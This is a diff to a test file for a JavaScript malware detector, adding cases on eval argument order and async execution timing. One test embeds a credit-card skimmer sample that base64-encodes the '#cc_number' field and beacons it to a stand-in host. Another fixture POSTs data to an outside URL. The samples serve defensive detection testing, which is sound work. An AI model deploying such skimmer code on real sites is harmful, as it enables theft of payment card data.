@@ -4,6 +4,8 @@ import { MAX_DEPTH } from '../../detector/deobfuscate/layers.ts'
 import { obfuscatorBase64, obfuscatorRc4 } from '../../detector/deobfuscate/obfuscator-codec.ts'
 import { lineStarts, positionIn, splice } from '../../detector/deobfuscate/splice.ts'
 import { analyzeScript } from '../../detector/index.ts'
+import { parseStrict } from '../../detector/parse.ts'
+import { resolveEdits } from '../../detector/deobfuscate/partial.ts'
 
 const strings = (source: string): string[] => factsOf(source).strings.map((s) => s.value)
 
@@ -151,5 +153,29 @@ describe('text unescaped by a function that only returns a literal', () => {
   it('eval of a script that is one string literal gives that string', () => {
     const v = analyzeScript(`${table}\nF(eval(T.q+${digits.join('+')}+T.q))()`)
     expect(v.verdict).toBe('malicious')
+  })
+})
+
+describe('what the evaluator must not assume', () => {
+  it('eval runs its first argument, not its last', () => {
+    const skimmer = `document.addEventListener('change', function () { new Image().src = 'https://px.eval-args.example/c.gif?d=' + btoa(document.querySelector('#cc_number').value) }, true)`
+    const F = 'var F = (0).constructor.constructor\n'
+    expect(
+      analyzeScript(`${F}F(eval('"0"', ${JSON.stringify(JSON.stringify(skimmer))}))()`).verdict,
+    ).not.toBe('malicious')
+    expect(
+      analyzeScript(`${F}F(eval(${JSON.stringify(JSON.stringify(skimmer))}, '"0"'))()`).verdict,
+    ).toBe('malicious')
+  })
+  it('the rest of an async function called where it is written runs later, not at load', () => {
+    const source = `var cfg = { u: '/ok' }
+      ;(async function () { await 0; cfg.u = 'https://elsewhere.example/c' })()
+      var log = []
+      function send(d) { fetch(cfg.u + log.join(''), { method: 'POST', body: d }) }`
+    const ast = parseStrict(source)
+    expect(ast).not.toBeNull()
+    expect(resolveEdits(ast as NonNullable<typeof ast>, source).map((e) => e.text)).not.toContain(
+      '"/ok"',
+    )
   })
 })
